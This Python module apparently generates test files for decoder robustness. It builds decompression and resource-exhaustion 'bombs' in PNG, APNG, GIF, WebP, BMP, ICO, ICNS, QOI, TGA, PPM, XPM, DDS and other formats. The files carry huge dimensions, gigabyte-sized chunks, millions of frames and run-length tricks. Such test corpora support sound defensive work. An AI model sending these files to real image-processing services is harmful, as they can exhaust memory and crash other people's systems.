"""Bombs in PNG, GIF, WebP, BMP and the simple formats: pixels, chunks, frames, run lengths."""

import struct

from packing import png, png_chunk, riff_chunk, webp, zeros

GIGABYTE = 1 << 30


def pngs():
    yield "PNG, 60,000 x 60,000", "png", lambda: png(60_000, 60_000, data=zeros(1000))
    yield "PNG, 268 MP of one gray", "png", lambda: png(16_383, 16_383)
    yield "PNG, 134 MP of 16 bits and alpha", "png", lambda: png(11_585, 11_585, 16, 6)
    yield "PNG, 89 MP of RGB, interlaced", "png", lambda: png(9_459, 9_459, 8, 2, 1)
    yield "PNG, 268 MP of 1 bit", "png", lambda: png(16_383, 16_383, 1)
    yield "PNG, 65,535 x 1 and as high", "png", lambda: png(65_535, 4_095)
    yield "PNG, 8 x 8 with 10 GB of pixels", "png", lambda: png(8, 8, data=zeros(10 * GIGABYTE))
    name = b"a\0\0"
    yield "PNG, profile of 10 GB", "png", lambda: png(
        8, 8, before=png_chunk(b"iCCP", name + zeros(10 * GIGABYTE)))
    yield "PNG, text of 10 GB", "png", lambda: png(
        8, 8, before=png_chunk(b"zTXt", name + zeros(10 * GIGABYTE)))
    yield "PNG, XMP of 10 GB", "png", lambda: png(8, 8, before=png_chunk(
        b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zeros(10 * GIGABYTE)))
    yield "PNG, EXIF of 200 MB", "png", lambda: png(
        8, 8, before=png_chunk(b"eXIf", b"II*\0\x08\0\0\0".ljust(200_000_000, b"\0")))
    yield "PNG, 5,000,000 empty chunks", "png", lambda: png(
        8, 8, before=png_chunk(b"teXt", b"") * 5_000_000)
    packed = zeros(72)
    yield "PNG, 2,000,000 empty pixel chunks", "png", lambda: png(
        8, 8, before=png_chunk(b"IDAT", b"") * 2_000_000, data=packed)
    yield "PNG, 500,000 palettes", "png", lambda: png(
        8, 8, 8, 3, before=png_chunk(b"PLTE", bytes(3)) * 500_000)
    yield "APNG, 4 billion frames", "png", lambda: png(
        8, 8, before=png_chunk(b"acTL", b"\xff\xff\xff\xff\0\0\0\0"))
    control = struct.pack(">IIIIIHHBB", 0, 8, 8, 0, 0, 1, 1, 0, 0)
    yield "APNG, 500,000 frame controls", "png", lambda: png(
        8, 8, before=png_chunk(b"acTL", b"\0\0\x27\x10\0\0\0\0") + png_chunk(b"fcTL", control) * 500_000)


def lzw(length: int) -> bytes:
    """Codes of a GIF for that many pixels of the first colour: each stands for a run that is longer by one."""
    value, filled, out = 256, 9, bytearray()
    count = run = 0
    while count < length:
        following = 258 + max(0, run - 1)
        value |= (257 + run if run else 0) << filled
        filled += max(9, following.bit_length())
        run += 1
        count += run
        if run == 3_800:  # the table is nearly full
            value |= 256 << filled
            filled, run = filled + 12, 0
        out += (value & (1 << filled // 8 * 8) - 1).to_bytes(filled // 8, "little")
        value, filled = value >> filled // 8 * 8, filled % 8
    out.append(value & 255)
    return bytes(out)


def gif(width: int, height: int, data: bytes, extra: bytes = b"", frames: int = 1) -> bytes:
    size = struct.pack("<HH", width, height)
    blocks = b"".join(
        bytes([len(data[at:at + 255])]) + data[at:at + 255] for at in range(0, len(data), 255))
    image = b",\0\0\0\0" + size + b"\0\x08" + blocks + b"\0"
    return b"GIF89a" + size + b"\xf7\0\0" + bytes(768) + extra + image * frames + b";"


def gifs():
    yield "GIF, 65,535 x 65,535", "gif", lambda: gif(65_535, 65_535, b"\0\1")
    yield "GIF, 268 MP without pixels", "gif", lambda: gif(16_383, 16_383, b"\0\1")
    yield "GIF, 66 MP of one colour", "gif", lambda: gif(8_191, 8_191, lzw(8_191 * 8_191))
    yield "GIF, 2,000,000 frames", "gif", lambda: gif(8, 8, lzw(64), frames=2_000_000)
    yield "GIF, 5,000,000 comments", "gif", lambda: gif(8, 8, lzw(64), b"!\xfe\1a\0" * 5_000_000)
    yield "GIF, a comment of 100 MB", "gif", lambda: gif(
        8, 8, lzw(64), b"!\xfe" + (b"\xff" + b"a" * 255) * 400_000 + b"\0")


def webps():
    canvas = struct.pack("<I", 16_383)[:3] * 2
    lossy = riff_chunk(b"VP8 ", b"\x10\2\0\x9d\1\x2a" + struct.pack("<HH", 16_383, 16_383) + bytes(40))
    lossless = riff_chunk(b"VP8L", b"\x2f" + struct.pack("<I", 16_382 | 16_382 << 14) + bytes(20))
    head = lambda flags: riff_chunk(b"VP8X", bytes([flags, 0, 0, 0]) + canvas)
    small = riff_chunk(b"VP8X", b"\2\0\0\0" + b"\7\0\0" * 2)
    one = riff_chunk(b"VP8L", b"\x2f" + struct.pack("<I", 7 | 7 << 14) + b"\x88\x88\x08\0\0\0")
    place = bytes(6) + b"\7\0\0" * 2 + bytes(4)
    yield "WebP, lossy, 268 MP in 100 bytes", "webp", lambda: webp(lossy)
    yield "WebP, lossless, 268 MP in 60 bytes", "webp", lambda: webp(lossless)
    yield "WebP, canvas of 268 MP", "webp", lambda: webp(head(0), one)
    yield "WebP, profile of 200 MB", "webp", lambda: webp(
        riff_chunk(b"VP8X", b"\x20\0\0\0" + b"\7\0\0" * 2), riff_chunk(b"ICCP", bytes(200_000_000)), one)
    yield "WebP, 1,000,000 frames", "webp", lambda: webp(
        small, riff_chunk(b"ANIM", bytes(6)), riff_chunk(b"ANMF", place + one) * 1_000_000)
    yield "WebP, 5,000,000 empty chunks", "webp", lambda: webp(
        riff_chunk(b"VP8X", b"\0\0\0\0" + b"\7\0\0" * 2), riff_chunk(b"abcd", b"") * 5_000_000, one)


def bmp(width: int, height: int, compression: int, data: bytes, bits: int = 8, colors: int = 2) -> bytes:
    palette = bytes(4 * min(colors, 256))
    start = 54 + len(palette)
    return (struct.pack("<2sIHHI", b"BM", start + len(data), 0, 0, start)
            + struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, compression, len(data), 0, 0, colors, 0)
            + palette + data)


def bmps():
    rows = b"\xff\0" * 64 + b"\x3f\0\0\0"
    yield "BMP, 60,000 x 60,000", "bmp", lambda: bmp(60_000, 60_000, 0, bytes(9), 24)
    yield "BMP, 268 MP without pixels", "bmp", lambda: bmp(16_383, 16_383, 0, bytes(9), 24)
    yield "BMP, 268 MP of run lengths", "bmp", lambda: bmp(16_383, 16_383, 1, rows * 16_383 + b"\0\1")
    yield "BMP, 268 MP left out by one end mark", "bmp", lambda: bmp(16_383, 16_383, 1, b"\0\1")
    yield "BMP, 50,000,000 moves", "bmp", lambda: bmp(64, 64, 1, b"\0\2\0\0" * 50_000_000)
    yield "BMP, 4 billion colours", "bmp", lambda: bmp(64, 64, 0, bytes(4096), 8, 0xFFFFFFFF)
    yield "BMP, a PNG of 268 MP in it", "bmp", lambda: bmp(16_383, 16_383, 5, png(16_383, 16_383), 0, 0)


def icons():
    inner = png(16_383, 16_383)
    entry = lambda at: b"\0\0\0\0\1\0\x20\0" + struct.pack("<II", len(inner), at)
    yield "ICO, a PNG of 268 MP", "ico", lambda: b"\0\0\1\0\1\0" + entry(22) + inner
    count = 65_535
    yield "ICO, 65,535 times the same PNG of 268 MP", "ico", lambda: (
        b"\0\0\1\0\xff\xff" + entry(6 + 16 * count) * count + inner)
    yield "ICNS, 5,000,000 entries", "icns", lambda: (
        lambda body: b"icns" + struct.pack(">I", len(body) + 8) + body)(b"ic10\0\0\0\x08" * 5_000_000)
    yield "ICNS, a PNG of 268 MP", "icns", lambda: (
        lambda body: b"icns" + struct.pack(">I", len(body) + 8) + body)(
            b"ic10" + struct.pack(">I", len(inner) + 8) + inner)


def simple():
    side = 16_383
    yield "QOI, 268 MP of runs", "qoi", lambda: (
        b"qoif" + struct.pack(">IIBB", side, side, 4, 0) + b"\xfd" * (side * side // 62 + 1) + bytes(7) + b"\1")
    row = b"\xff\0\0\0" * 128
    yield "TGA, 268 MP of runs", "tga", lambda: (
        bytes([0, 0, 10]) + bytes(9) + struct.pack("<HHBB", side, side, 24, 0) + row * side)
    yield "PCX, 268 MP of runs", "pcx", lambda: (
        b"\x0a\5\1\x08\0\0\0\0" + struct.pack("<HH", side - 1, side - 1) + bytes(53) + b"\1"
        + struct.pack("<H", side + 1) + bytes(60) + b"\xff\0" * (261 * side) + b"\x0c" + bytes(768))
    starts = struct.pack(">I", 512 + 8 * side * 3) * (side * 3)
    lengths = struct.pack(">I", 261) * (side * 3)
    yield "SGI, 268 MP, all rows the same", "sgi", lambda: (
        b"\1\xda\1\1\0\3" + struct.pack(">HHH", side, side, 3) + bytes(500) + starts + lengths
        + b"\x7f\0" * 130 + b"\0")
    yield "Sun raster, 268 MP of runs", "ras", lambda: (
        struct.pack(">8I", 0x59A66A95, side, side, 8, 5_000_000, 2, 0, 0) + b"\x80\xff\0" * 1_048_000)
    yield "PPM, 60,000 x 60,000", "ppm", lambda: b"P6 60000 60000 255\n"
    yield "PPM, 100 MB of a comment", "ppm", lambda: b"P6 #" + b"a" * 100_000_000 + b"\n8 8 255\n" + bytes(192)
    yield "PPM, text, 268 MP in 100 MB", "pgm", lambda: b"P2 16383 16383 255\n" + b"0 " * 50_000_000
    yield "PAM, 100 MB of header", "pam", lambda: b"P7\n" + b"TUPLTYPE RGB\n" * 8_000_000 + b"ENDHDR\n"
    yield "PFM, 60,000 x 60,000", "pfm", lambda: b"PF\n60000 60000\n-1\n"
    yield "farbfeld, 268 MP without pixels", "ff", lambda: b"farbfeld" + struct.pack(">II", side, side)
    line = b"\2\2\x3f\xff" + (b"\xff\0" * 129 + b"\xf8\0") * 4
    yield "Radiance HDR, 268 MP of runs", "hdr", lambda: (
        b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 16383 +X 16383\n" + line * side)
    yield "Radiance HDR, 100 MB of header", "hdr", lambda: b"#?RADIANCE\n" + b"A=b\n" * 25_000_000
    yield "XBM, 60,000 x 60,000", "xbm", lambda: (
        b"#define a_width 60000\n#define a_height 60000\nstatic char a_bits[] = {0x00};")
    yield "XPM, a billion colours", "xpm", lambda: (
        b'/* XPM */ static char *a[] = { "8 8 999999999 4", "aaaa c red"};')
    yield "XPM, colours of a billion characters", "xpm", lambda: (
        b'/* XPM */ static char *a[] = { "8 8 2 999999999", "a c red"};')
    yield "XPM, 100 MB of text", "xpm", lambda: (
        b'/* XPM */ static char *a[] = { "8 8 1 1", "a c red"' + b',"aaaaaaaa"' * 9_000_000 + b"};")
    yield "WBMP, 268 MP", "wbmp", lambda: b"\0\0\xff\x7f\xff\x7f" + bytes(33_000_000)
    yield "DDS, 268 MP without pixels", "dds", lambda: dds(side, side, 0)
    yield "DDS, 4 billion pictures in an array", "dds", lambda: dds(8, 8, 0xFFFFFFFF)


def dds(width: int, height: int, count: int) -> bytes:
    head = struct.pack("<4s7I44x", b"DDS ", 124, 0x1007, height, width, 0, 0, count and 32)
    form = struct.pack("<II4s5I", 32, 4, b"DX10", 0, 0, 0, 0, 0) + struct.pack("<5I", 0x1000, 0, 0, 0, 0)
    return head + form + struct.pack("<5I", 98, 3, 0, max(count, 1), 0) + bytes(64)


def bombs():
    for family in (pngs, gifs, webps, bmps, icons, simple):
        yield from family()

